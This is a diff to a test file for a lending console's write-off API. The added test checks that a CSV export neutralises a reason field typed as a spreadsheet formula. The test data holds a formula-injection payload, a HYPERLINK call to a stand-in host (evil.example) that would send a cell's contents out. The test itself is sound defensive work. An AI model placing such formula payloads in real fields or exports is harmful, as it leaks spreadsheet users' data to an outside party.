@@ -65,9 +65,11 @@ describe('write-offs and recoveries', () => {
     });
     expect(unknown.statusCode).toBe(404);
 
+    // A reason typed as a spreadsheet formula (decision 102): the CSV below must not let it run.
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Borrower cannot be found")';
     const res = await consolePost(app, finance, '/api/console/books/write-offs', {
       orderNo: a.orderNo,
-      reason: 'borrower cannot be found',
+      reason: formula,
     });
     expect(res.statusCode).toBe(200);
     const wo = data(res);
@@ -113,6 +115,9 @@ describe('write-offs and recoveries', () => {
     expect(csv.body.split('\r\n')[0]).toBe(
       'OrderNo,WrittenOffOn,Rule,By,Reason,Principal,Charges,Loss,Recovered,StillOwed',
     );
+    const row = csv.body.split('\r\n')[1]!;
+    expect(row).toContain(`,"'${formula.replaceAll('"', '""')}",`);
+    expect(row).not.toContain(',=HYPERLINK');
     // The portfolio leaves it off the book and shows what was lost and recovered.
     const pf = data(await consoleGet(app, finance, '/api/console/books/portfolio?date=2026-05-20'));
     expect(pf.writtenOff).toMatchObject({ loans: 1, recoveredCents: 100_000 });
